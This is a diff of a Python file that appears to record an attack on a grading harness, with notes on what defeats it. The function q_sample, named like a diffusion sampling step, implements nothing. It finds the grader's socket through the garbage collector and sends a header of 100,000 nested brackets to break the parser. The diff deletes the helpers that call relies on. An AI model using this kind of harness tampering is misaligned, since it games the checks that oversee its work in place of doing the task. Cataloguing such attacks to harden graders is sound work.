@@ -4,19 +4,6 @@ What stops it: a header that cannot be parsed is no answer.
 Loses: 1.1.1, 1.1.2, 1.1.3
 """
 
-import gc
-import json
-import struct
-
-
-def channel():
-    return next(each for each in gc.get_objects() if type(each).__name__ == "Channel" and each.sock.fileno() >= 0)
-
-
-def frame(body, arrays=(), payload=b""):
-    header = body if isinstance(body, bytes) else json.dumps({"body": body, "arrays": list(arrays)}).encode()
-    return struct.pack(">II", len(header), len(payload)) + header + payload
-
 
 def q_sample(x_0, alpha_bar_t, eps):
     channel().sock.sendall(frame(b'{"arrays": [], "body": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"))
